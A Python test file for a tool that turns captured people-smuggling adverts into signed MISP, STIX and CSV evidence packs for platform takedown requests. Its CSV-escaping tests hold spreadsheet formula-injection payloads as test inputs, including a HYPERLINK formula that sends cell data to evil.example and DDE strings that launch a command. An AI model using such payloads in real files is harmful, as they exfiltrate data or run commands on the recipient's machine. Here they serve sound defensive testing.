"""What a platform ingests: ``misp.json`` (a MISP event, read back with ``pymisp``),
wallets and prices in ``stix.json``, handles on the platform their text names in every
member, ``portal.csv`` for web-form intake, and CSV cells escaped only where a
spreadsheet would run them as a formula.

A real pack built through the façade from a Facebook capture whose OCR text goes
through the real extraction and the analyst's review; opened with the real ``age``,
``unzip``, ``minisign`` and ``sha256sum``."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tests.core.packs import support as support
from tests.core.packs.support import (
    PASS_ENV,
    PASSPHRASE,
    FakeOcr,
    Template,
    copy_ws,
    open_ws,
    tool,
)
from tests.core.packs.test_packs import check_stix_document
from workstation.packs.format.members import csv_cell
from workstation.packs.format.misp import event_uuid, misp_event
from workstation.packs.format.packlisting import member_digest, missing_members
from workstation.packs.format.portal import (
    PORTAL_FIELDS,
    portal_csv,
    portal_rows,
    portal_tsv,
    sealed_pack_rows,
)
from workstation.packs.format.spec import PackItem, PackSpec

template = support.template  # fixture

BTC = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
ETH = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
#: A Facebook post naming an Instagram account, a Telegram account (left unconfirmed),
#: a WhatsApp number, two wallets and a price.
ADVERT = ("Safe trips to the UK every week\n"
          "Instagram: @mohajer.travel\n"
          "Telegram: @mohajer_boats\n"
          "WhatsApp +44 7700 900777\n"
          f"BTC {BTC}\n"
          f"ETH {ETH}\n"
          "Price 1500 €\n")
CONFIRMED = {("handle", "mohajer.travel"), ("phone", "+447700900777"),
             ("whatsapp", "+447700900777"), ("crypto", f"BTC:{BTC}"),
             ("crypto", f"ETH:{ETH.lower()}"), ("price", "EUR 1500")}


# ------------------------------------------------------------------ CSV cells
@pytest.mark.parametrize("value", [
    "=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1)", "-2+3",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@A1:B2", "\t=1", "\r=1",
    "+44 7700 900777",  # not E.164 as written: a spreadsheet evaluates it (#NULL!)
    "-", "+", "@", "=",
    " =1", "  @SUM(1)", "\n=1+1",  # behind spaces a trimming import would expose
])
def test_a_cell_a_spreadsheet_would_evaluate_is_escaped(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "@mohajer.travel", "@boats_uk", "+447700900123", "-12.5", "42", "+7", "mohajer.travel",
    "https://www.facebook.com/people.mover/posts/5551", "EUR 1500", f"BTC:{BTC}", "",
    "a=b", " @handle", "  +447700900123",
])
def test_a_plain_value_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


def test_escaped_and_plain_cells_survive_a_csv_round_trip() -> None:
    out = io.StringIO()
    values = ["@mohajer.travel", "+cmd|' /C calc'!A0", "+447700900123", "=1+2"]
    csv.writer(out).writerow([csv_cell(v) for v in values])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "@mohajer.travel", "'+cmd|' /C calc'!A0", "+447700900123", "'=1+2"]


# ------------------------------------------------------------------ a real pack
@pytest.fixture(scope="module")
def ingest_pack(template: Template, tmp_path_factory: pytest.TempPathFactory
                ) -> dict[str, Any]:
    """A sealed pack (capture C, Facebook) with the advert read and reviewed, and the
    folder the recipient unpacked it into."""
    base = tmp_path_factory.mktemp("ingest")
    ws_dir = copy_ws(template, base / "ws")
    c = template.captures[2]
    out = base / "fb.alertpack.age"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(PASS_ENV, PASSPHRASE)
        mp.setenv("WORKSTATION_ANALYST", "Test Analyst")
        with open_ws(ws_dir) as ws:
            ws.reading._store_ocr(c, FakeOcr(ADVERT, ("eng",), ("eng",)))
            found = {(r.kind, r.normalized) for r in ws.reading.indicators(c)}
            assert found >= CONFIRMED and ("telegram", "mohajer_boats") in found
            for kind, value in CONFIRMED:
                ws.review.confirm(c, kind, value)
            pack = ws.packs.build(template.facebook, [c], priority="urgent", output=out)
            captures = ws.captures.by_ids([c])
            pub = base / "agency.pub"
            pub.write_text(ws.keys.export_public_key())
    folder = base / "recipient" / pack.ref
    folder.parent.mkdir()
    with open(folder.parent / "pack.zip", "wb") as plain:
        subprocess.run([tool("age"), "-d", "-i", str(template.age_key), str(out)],
                       stdout=plain, check=True)
    unzip = shutil.which("unzip")
    if unzip:
        subprocess.run([unzip, "-q", str(folder.parent / "pack.zip"), "-d", str(folder)],
                       check=True)
    else:
        with zipfile.ZipFile(folder.parent / "pack.zip") as zf:
            zf.extractall(folder)
    return {"pack": pack, "file": out, "folder": folder, "pub": pub, "capture": c,
            "captures": captures}


def test_misp_and_portal_members_are_signed_and_verify_with_the_standard_tools(
        ingest_pack: dict[str, Any], template: Template, tmp_path: Path) -> None:
    from workstation.packs.format.opening import open_pack

    folder: Path = ingest_pack["folder"]
    verified = subprocess.run([tool("minisign"), "-V", "-p", str(ingest_pack["pub"]), "-m",
                               "SHA256SUMS"], cwd=folder, capture_output=True, text=True)
    assert verified.returncode == 0, verified.stderr
    checked = subprocess.run([tool("sha256sum"), "-c", "SHA256SUMS"], cwd=folder,
                             capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "misp.json: OK" in checked.stdout and "portal.csv: OK" in checked.stdout
    readme = (folder / "README.txt").read_text()
    assert "misp.json" in readme and "portal.csv" in readme
    report = open_pack(ingest_pack["file"], template.age_key, ingest_pack["pub"],
                       tmp_path / "opened")
    assert report.valid, report.failure
    assert (tmp_path / "opened" / "misp.json").is_file()


def test_misp_event_loads_with_pymisp_and_holds_the_confirmed_indicators(
        ingest_pack: dict[str, Any]) -> None:
    from pymisp import MISPEvent

    folder: Path = ingest_pack["folder"]
    manifest = json.loads((folder / "manifest.json").read_text())
    (item,) = manifest["items"]
    event = MISPEvent()
    event.load((folder / "misp.json").read_text())
    assert event.uuid == event_uuid(ingest_pack["pack"].ref)
    assert ingest_pack["pack"].ref in event.info
    assert int(event.threat_level_id) == 1  # urgent
    created = datetime.fromisoformat(manifest["created_utc"].replace("Z", "+00:00"))
    assert event.timestamp == created

    objects: dict[str, list[Any]] = {}
    for obj in event.objects:
        objects.setdefault(obj.name, []).append(
            {a.object_relation: a.value for a in obj.attributes})
        assert all(a.timestamp == created for a in obj.attributes)
    (screenshot,) = objects["file"]
    original = item["files"][0]
    assert screenshot["sha256"] == original["sha256"] and screenshot["md5"] == original["md5"]
    assert int(screenshot["size-in-bytes"]) == original["size"]
    assert item["pdq"] is not None and screenshot["text"] == item["pdq"]["hash"]
    pdq = next(a for o in event.objects for a in o.attributes if a.object_relation == "text")
    assert pdq.comment == "PDQ"
    assert {"url": item["url"]} in objects["url"]
    accounts = {(a["account-type"], a["username"]) for a in objects["user-account"]}
    # the poster on Facebook; the handle its text names on Instagram; the WhatsApp number
    assert accounts == {("facebook", item["account"]["handle"]),
                        ("instagram", "mohajer.travel"), ("whatsapp", "+447700900777")}
    wallets = {(w.get("symbol"), w.get("address") or w.get("address-crypto"))
               for w in objects["coin-address"]}
    assert wallets == {("BTC", BTC), ("ETH", ETH.lower())}
    btc = next(a for o in event.objects if o.name == "coin-address" for a in o.attributes
               if a.object_relation == "address")
    assert btc.type == "btc"
    flat = {(a.type, a.value) for a in event.attributes}
    assert ("phone-number", "+447700900777") in flat and ("text", "EUR 1500") in flat
    # Not confirmed: nowhere in the event.
    assert "mohajer_boats" not in (folder / "misp.json").read_text()
    # Every object hangs off the item's screenshot.
    file_obj = next(o for o in event.objects if o.name == "file")
    referenced = {r.referenced_uuid for r in file_obj.references}
    assert referenced == {o.uuid for o in event.objects if o is not file_obj} | {
        a.uuid for a in event.attributes}


def test_stix_carries_wallets_and_prices_and_stays_valid(ingest_pack: dict[str, Any]) -> None:
    import stix2

    folder: Path = ingest_pack["folder"]
    bundle = stix2.parse((folder / "stix.json").read_text(), allow_custom=False)
    patterns = [o.pattern for o in bundle.objects if o.type == "indicator"]
    assert ("[x-cryptocurrency-wallet:currency = 'BTC' AND "
            f"x-cryptocurrency-wallet:address = '{BTC}']") in patterns
    assert ("[x-cryptocurrency-wallet:currency = 'ETH' AND "
            f"x-cryptocurrency-wallet:address = '{ETH.lower()}']") in patterns
    assert ("[user-account:account_type = 'instagram' AND "
            "user-account:account_login = 'mohajer.travel']") in patterns
    assert not any("mohajer_boats" in p for p in patterns)
    (note,) = [o for o in bundle.objects if o.type == "note"]
    assert note.abstract == "Price advertised: EUR 1500"
    observed = [o.id for o in bundle.objects if o.type == "observed-data"]
    assert note.object_refs == observed
    report = next(o for o in bundle.objects if o.type == "report")
    assert note.id in report.object_refs
    assert check_stix_document((folder / "stix.json").read_text()) >= 3


def test_indicators_csv_names_each_handles_platform_and_escapes_only_formulas(
        ingest_pack: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(
        (ingest_pack["folder"] / "indicators.csv").read_text())))
    by_value = {r["normalized"]: r for r in rows if r["kind"] == "handle"}
    assert by_value["mohajer.travel"]["platform"] == "instagram"
    assert by_value["mohajer.travel"]["value"] == "@mohajer.travel"  # no leading '
    phone = next(r for r in rows if r["kind"] == "phone")
    assert phone["normalized"] == "+447700900777"
    assert phone["value"] == "'+44 7700 900777"  # as written, a spreadsheet would run it


def test_portal_csv_has_one_row_per_item_and_the_outbox_copy_has_the_same(
        ingest_pack: dict[str, Any]) -> None:
    folder: Path = ingest_pack["folder"]
    manifest = json.loads((folder / "manifest.json").read_text())
    (item,) = manifest["items"]
    text = (folder / "portal.csv").read_text()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert tuple(row) == PORTAL_FIELDS
    assert row["url"] == item["url"] and row["content_id"] == item["platform_content_id"]
    assert row["account"] == item["account"]["handle"]
    assert row["account_url"] == item["account"]["profile_url"]
    assert row["policy"] == f"{manifest['basis']['title']} ({item['policy']})"
    assert row["requested_action"] == "remove" and row["priority"] == "urgent"
    assert row["deadline_utc"] == manifest["requested_action"]["deadline_utc"]
    # the outbox rebuilds the same rows from the workspace for the clipboard
    tsv = portal_tsv(sealed_pack_rows(ingest_pack["pack"], ingest_pack["captures"]))
    assert [line.split("\t") for line in tsv.splitlines()] == list(
        csv.reader(io.StringIO(text)))


# ------------------------------------------------------------------ determinism
def _spec(ref: str = "NCA-AP-2026-000042") -> PackSpec:
    return PackSpec(
        ref=ref, created_at="2026-03-04T05:06:07Z", agency="Test Agency", unit="Unit",
        analyst="A", contact_24x7={}, platform="facebook", operator="Meta", contact={},
        recipients=[], basis={"id": "x", "title": "T"}, handling="OFFICIAL-SENSITIVE",
        priority="normal", action="remove", reason="", preserve_days=90,
        deadline_at="2026-03-07T05:06:07Z", signing_key_id="k", app_version="0")


def _item() -> PackItem:
    return PackItem(
        position=1, capture_id=7, evidence_path=Path("unused"), sha256="a" * 64, md5="b" * 32,
        size=10, format="png", width=1, height=1, observed_at="2026-03-01T00:00:00Z",
        observed_at_source="capture", policy="x", source_url="https://example.com/p/1",
        handle="people.mover", pdq="f" * 64, pdq_quality=90,
        indicators=[{"kind": "handle", "value": "@x.y", "normalized": "x.y",
                     "platform": "instagram", "status": "confirmed"},
                    {"kind": "crypto", "value": BTC, "normalized": f"BTC:{BTC}",
                     "status": "confirmed"}])


def test_the_same_pack_gives_the_same_misp_bytes() -> None:
    first = misp_event(_spec(), [_item()])
    assert misp_event(_spec(), [_item()]) == first
    event = json.loads(first)["Event"]
    stamps = {event["timestamp"]}
    stamps |= {a["timestamp"] for o in event["Object"] for a in o["Attribute"]}
    stamps |= {o["timestamp"] for o in event["Object"]}
    assert stamps == {str(int(datetime.fromisoformat("2026-03-04T05:06:07+00:00").timestamp()))}
    other = json.loads(misp_event(_spec("NCA-AP-2026-000043"), [_item()]))["Event"]
    uuids = {o["uuid"] for o in event["Object"]}
    assert uuids and not uuids & {o["uuid"] for o in other["Object"]}
    # a change of content changes the bytes
    assert misp_event(_spec(), [replace(_item(), sha256="c" * 64)]) != first


def test_a_version_2_pack_must_carry_misp_and_portal() -> None:
    digests = {name: member_digest(name, b"x") for name in ("manifest.json", "stix.json")}
    assert missing_members({"format_version": 1}, digests) == []
    problems = missing_members({"format_version": 2}, digests)
    assert problems == ["misp.json is missing (required since format version 2)",
                        "portal.csv is missing (required since format version 2)"]
    digests |= {name: member_digest(name, b"x") for name in ("misp.json", "portal.csv")}
    assert missing_members({"format_version": 2}, digests) == []


def test_misp_uuids_stay_distinct_whatever_the_values() -> None:
    """A value that extends another ("…/a" and "…/a/url") never gives one UUID twice."""
    item = replace(_item(), indicators=[
        {"kind": "url", "value": v, "normalized": v, "status": "confirmed"}
        for v in ("https://t.me/a", "https://t.me/a/url", "https://t.me/a/url/ref")])
    event = json.loads(misp_event(_spec(), [item]))["Event"]
    uuids = [event["uuid"]]
    for obj in event.get("Object", []):
        uuids.append(obj["uuid"])
        uuids += [a["uuid"] for a in obj.get("Attribute", [])]
        uuids += [r["uuid"] for r in obj.get("ObjectReference", [])]
    uuids += [a["uuid"] for a in event.get("Attribute", [])]
    assert len(uuids) == len(set(uuids)) > 6


def test_the_clipboard_copy_is_not_formula_escaped() -> None:
    """A web form's field is not a spreadsheet: a YouTube id starting with '-' is
    pasted as it is, while portal.csv escapes it."""
    row = portal_rows(_spec(), [replace(_item(), content_id="-dQw4w9WgXcQ")])
    assert "\t-dQw4w9WgXcQ\t" in portal_tsv(row)
    assert "'-dQw4w9WgXcQ" in portal_csv(row).decode("utf-8")
